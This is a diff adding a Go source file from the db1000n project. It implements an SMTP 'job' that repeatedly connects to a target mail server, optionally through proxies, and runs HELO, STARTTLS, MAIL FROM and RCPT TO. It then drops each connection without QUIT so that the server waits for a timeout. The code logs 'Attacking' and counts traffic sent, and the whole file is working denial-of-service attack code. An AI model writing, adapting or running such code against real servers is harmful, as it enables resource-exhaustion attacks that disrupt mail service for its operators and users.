@@ -0,0 +1,255 @@
+// MIT License
+
+// Copyright (c) [2022] [Bohdan Ivashko (https://github.com/Arriven)]
+
+// Permission is hereby granted, free of charge, to any person obtaining a copy
+// of this software and associated documentation files (the "Software"), to deal
+// in the Software without restriction, including without limitation the rights
+// to use, copy, modify, merge, publish, distribute, sublicense, and/or sell
+// copies of the Software, and to permit persons to whom the Software is
+// furnished to do so, subject to the following conditions:
+
+// The above copyright notice and this permission notice shall be included in all
+// copies or substantial portions of the Software.
+
+// THE SOFTWARE IS PROVIDED "AS IS", WITHOUT WARRANTY OF ANY KIND, EXPRESS OR
+// IMPLIED, INCLUDING BUT NOT LIMITED TO THE WARRANTIES OF MERCHANTABILITY,
+// FITNESS FOR A PARTICULAR PURPOSE AND NONINFRINGEMENT. IN NO EVENT SHALL THE
+// AUTHORS OR COPYRIGHT HOLDERS BE LIABLE FOR ANY CLAIM, DAMAGES OR OTHER
+// LIABILITY, WHETHER IN AN ACTION OF CONTRACT, TORT OR OTHERWISE, ARISING FROM,
+// OUT OF OR IN CONNECTION WITH THE SOFTWARE OR THE USE OR OTHER DEALINGS IN THE
+// SOFTWARE.
+package job
+
+import (
+	"context"
+	"crypto/tls"
+	"errors"
+	"fmt"
+	"log"
+	"net"
+	"net/smtp"
+	"strings"
+	"text/template"
+	"time"
+
+	"github.com/google/uuid"
+	"go.uber.org/zap"
+
+	"github.com/Arriven/db1000n/src/core/http"
+	"github.com/Arriven/db1000n/src/job/config"
+	"github.com/Arriven/db1000n/src/utils"
+	"github.com/Arriven/db1000n/src/utils/metrics"
+	"github.com/Arriven/db1000n/src/utils/templates"
+)
+
+type smtpJobConfig struct {
+	BasicJobConfig
+
+	Address   string
+	Helo      string          // sessions without helo, mail_from, and starttls only wait for the server greeting
+	MailFrom  string          `mapstructure:"mail_from"`
+	RcptTo    []string        `mapstructure:"rcpt_to"` // only sent together with mail_from
+	StartTLS  bool            `mapstructure:"starttls"`
+	TLS       *http.TLSConfig `mapstructure:"tls"` // only applies together with starttls
+	ProxyURLs string          `mapstructure:"proxy_urls"`
+	Timeout   *time.Duration
+}
+
+// smtpSession holds everything needed to walk through a single smtp session
+type smtpSession struct {
+	addr      string
+	host      string
+	proxyFunc utils.ProxyFunc
+	tlsConfig *tls.Config
+	startTLS  bool
+	timeout   time.Duration
+
+	heloTpl     *template.Template
+	mailFromTpl *template.Template
+	rcptToTpls  []*template.Template
+}
+
+func smtpJob(ctx context.Context, logger *zap.Logger, globalConfig *GlobalConfig, args config.Args) (data interface{}, err error) {
+	const defaultTimeout = 10 * time.Second
+
+	ctx, cancel := context.WithCancel(ctx)
+	defer cancel()
+
+	var jobConfig smtpJobConfig
+	if err := ParseConfig(&jobConfig, args, *globalConfig); err != nil {
+		return nil, fmt.Errorf("error parsing job config: %w", err)
+	}
+
+	session, err := newSMTPSession(ctx, logger, &jobConfig)
+	if err != nil {
+		return nil, err
+	}
+
+	if globalConfig.ProxyURLs != "" {
+		jobConfig.ProxyURLs = globalConfig.ProxyURLs
+	}
+
+	session.timeout = utils.NonNilDurationOrDefault(jobConfig.Timeout, defaultTimeout)
+	session.proxyFunc = utils.GetProxyFunc(templates.ParseAndExecute(logger, jobConfig.ProxyURLs, ctx), session.timeout)
+	backoffController := utils.NewBackoffController(utils.NonNilBackoffConfigOrDefault(jobConfig.BackoffConfig, globalConfig.Backoff))
+
+	trafficMonitor := jobConfig.newTrafficMonitor()
+	go trafficMonitor.Update(ctx, time.Second)
+
+	processedTrafficMonitor := metrics.Default.NewWriter(metrics.ProcessedTraffic, uuid.NewString())
+	go processedTrafficMonitor.Update(ctx, time.Second)
+
+	if !isInEncryptedContext(ctx) {
+		log.Printf("Attacking %v", session.addr)
+	}
+
+	for jobConfig.Next(ctx) {
+		sent, err := session.run(ctx, logger)
+		trafficMonitor.Add(sent)
+
+		if ctx.Err() != nil {
+			break
+		}
+
+		if err != nil {
+			logger.Debug("smtp session failed", zap.String("addr", session.addr), zap.Error(err))
+			metrics.IncSMTP(session.addr, metrics.StatusFail)
+			utils.Sleep(ctx, backoffController.Increment().GetTimeout())
+
+			continue
+		}
+
+		processedTrafficMonitor.Add(sent)
+		metrics.IncSMTP(session.addr, metrics.StatusSuccess)
+		backoffController.Reset()
+	}
+
+	return nil, nil
+}
+
+func newSMTPSession(ctx context.Context, logger *zap.Logger, jobConfig *smtpJobConfig) (*smtpSession, error) {
+	addr := strings.TrimSpace(templates.ParseAndExecute(logger, jobConfig.Address, ctx))
+
+	host, _, err := net.SplitHostPort(addr)
+	if err != nil {
+		return nil, fmt.Errorf("error parsing address %q: %w", addr, err)
+	}
+
+	if jobConfig.TLS == nil {
+		jobConfig.TLS = &http.TLSConfig{}
+	}
+
+	tlsConfig, err := jobConfig.TLS.Build()
+	if err != nil {
+		return nil, fmt.Errorf("error parsing tls config: %w", err)
+	}
+
+	if tlsConfig.ServerName == "" && net.ParseIP(host) == nil {
+		tlsConfig.ServerName = host
+	}
+
+	session := &smtpSession{addr: addr, host: host, tlsConfig: tlsConfig, startTLS: jobConfig.StartTLS}
+
+	if session.heloTpl, err = templates.Parse(jobConfig.Helo); err != nil {
+		return nil, fmt.Errorf("error parsing helo template %q: %w", jobConfig.Helo, err)
+	}
+
+	if session.mailFromTpl, err = templates.Parse(jobConfig.MailFrom); err != nil {
+		return nil, fmt.Errorf("error parsing mail_from template %q: %w", jobConfig.MailFrom, err)
+	}
+
+	for _, rcptTo := range jobConfig.RcptTo {
+		tpl, err := templates.Parse(rcptTo)
+		if err != nil {
+			return nil, fmt.Errorf("error parsing rcpt_to template %q: %w", rcptTo, err)
+		}
+
+		session.rcptToTpls = append(session.rcptToTpls, tpl)
+	}
+
+	return session, nil
+}
+
+// run opens a session, walks through the configured commands and drops the connection without QUIT so that the server
+// has to wait for the session to time out. The session is only closed gracefully when the job is stopped. Returns the amount of bytes sent
+func (s *smtpSession) run(ctx context.Context, logger *zap.Logger) (uint64, error) {
+	rawConn, err := s.proxyFunc("tcp", s.addr)
+	if err != nil {
+		return 0, err
+	}
+
+	conn := &handshakeConn{Conn: rawConn}
+	defer conn.Close()
+
+	if err = conn.SetDeadline(time.Now().Add(s.timeout)); err != nil {
+		return 0, err
+	}
+
+	// waits for the server greeting
+	client, err := smtp.NewClient(conn, s.host)
+	if err != nil {
+		return conn.sent, err
+	}
+
+	for _, step := range s.steps(ctx, logger, client) {
+		if ctx.Err() != nil {
+			break
+		}
+
+		if err = step(); err != nil {
+			return conn.sent, err
+		}
+	}
+
+	if ctx.Err() != nil {
+		return conn.sent, client.Quit()
+	}
+
+	return conn.sent, nil
+}
+
+func (s *smtpSession) steps(ctx context.Context, logger *zap.Logger, client *smtp.Client) []func() error {
+	const defaultHelo = "localhost"
+
+	var (
+		steps    []func() error
+		helo     = templates.Execute(logger, s.heloTpl, ctx)
+		mailFrom = templates.Execute(logger, s.mailFromTpl, ctx)
+	)
+
+	if helo == "" && mailFrom == "" && !s.startTLS {
+		return nil
+	}
+
+	if helo == "" {
+		helo = defaultHelo
+	}
+
+	steps = append(steps, func() error { return client.Hello(helo) })
+
+	if s.startTLS {
+		steps = append(steps, func() error {
+			if ok, _ := client.Extension("STARTTLS"); !ok {
+				return errSMTPNoStartTLS
+			}
+
+			return client.StartTLS(s.tlsConfig)
+		})
+	}
+
+	if mailFrom == "" {
+		return steps
+	}
+
+	steps = append(steps, func() error { return client.Mail(mailFrom) })
+
+	for _, tpl := range s.rcptToTpls {
+		rcptTo := templates.Execute(logger, tpl, ctx)
+		steps = append(steps, func() error { return client.Rcpt(rcptTo) })
+	}
+
+	return steps
+}
+
+var errSMTPNoStartTLS = errors.New("server doesn't support STARTTLS")